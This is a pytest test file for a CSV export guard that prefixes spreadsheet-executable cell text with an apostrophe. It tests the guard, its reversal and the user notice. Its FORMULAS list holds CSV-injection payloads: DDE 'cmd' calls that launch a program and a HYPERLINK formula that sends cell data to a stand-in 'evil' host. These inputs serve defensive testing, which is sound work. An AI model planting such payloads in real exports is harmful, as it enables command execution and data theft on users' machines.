"""Text that a spreadsheet may run gets an apostrophe, everything else stays, and all of it comes back."""

import io
import re

import pytest

from infer.core.console import Screen
from infer.core.csv_files import csv_line
from infer.core.formulas import guarded, is_formula, tell_formulas, unguarded

FORMULAS = [
    "=1+1.png",
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '-HYPERLINK("http://evil/?"&A1)',
    "\t=1",
    "\rnext",
    "\n",
    "  =1",
    "＝1",
    "－A(1)",
    "=",
]
PLAIN = [
    "",
    "-0.5",
    "+1e-05",
    "-inf",
    "-12.png",
    "-a/b-1 c.png",
    "+",
    "-",
    "a=b",
    "1-(2)",
    "x@y",
    "'quoted'",
    "007",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_a_spreadsheet_may_run_begins_with_an_apostrophe(text: str) -> None:
    assert is_formula(text)
    assert guarded(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_plain_names_and_other_text_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text == unguarded(text)


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
@pytest.mark.parametrize("marks", ["", "'", "''"])
def test_every_text_comes_back_also_one_that_begins_with_apostrophes(text: str, marks: str) -> None:
    assert unguarded(guarded(marks + text)) == marks + text


def test_numbers_are_never_touched_and_text_is_kept_raw_on_request() -> None:
    assert csv_line(["=a(1)", -0.5, -1]) == "'=a(1),-0.5,-1\n"
    assert csv_line(["=a(1)", -0.5, -1], raw=True) == "=a(1),-0.5,-1\n"


@pytest.mark.parametrize(
    ("raw", "line"),
    [
        (False, "note: the CSV has an apostrophe before names or labels .* \\(2\\): =1.png, @x; --raw-csv keeps .*"),
        (
            True,
            "warning: the CSV holds names or labels .* \\(2\\): =1.png, @x; without --raw-csv they are .*",
        ),
        (None, "note: the CSV has an apostrophe before names or labels .* \\(2\\): =1.png, @x"),
    ],
)
def test_the_user_is_told_in_one_line(raw: bool | None, line: str, heard: tuple[Screen, io.StringIO]) -> None:
    screen, text = heard
    tell_formulas(screen, ["a.png", "-1.png"], raw)
    assert text.getvalue() == ""
    tell_formulas(screen, ["=1.png", "a.png", "=1.png", "@x"], raw)
    assert re.fullmatch(line, text.getvalue().strip())
